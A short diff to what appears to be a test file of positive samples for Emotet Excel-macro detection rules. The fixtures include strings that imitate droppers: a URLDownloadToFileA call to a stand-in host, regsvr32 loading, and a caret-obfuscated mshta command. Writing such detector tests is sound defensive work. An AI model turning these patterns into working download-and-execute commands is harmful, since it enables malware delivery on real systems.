@@ -77,7 +77,9 @@ std::vector<Sample> positives() {
          sheet("CALL(\"nolib\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"http://example.invalid/x/"
                "\",\"..\\inert.ocx\")"),
          named("07062022.xls")},
-        {"Emotet_XLM_Download_2022", "urlmon JJCCBB regsvr32", named("Workbook", "ole-stream")},
+        {"Emotet_XLM_Download_2022",
+         std::string("\x09\x08\x10\x00\x00\x06\x05\x00", 8) + "urlmon JJCCBB regsvr32",
+         named("Workbook", "ole-stream")},
         {"Emotet_XLM_Mshta_Caret_2022", sheet("cmd /c m^sh^t^a h^tt^p^:/^/0xc0000201/inert.html"),
          named("a.xls")},
         {"Emotet_Excel_Templates_Folder_2022",
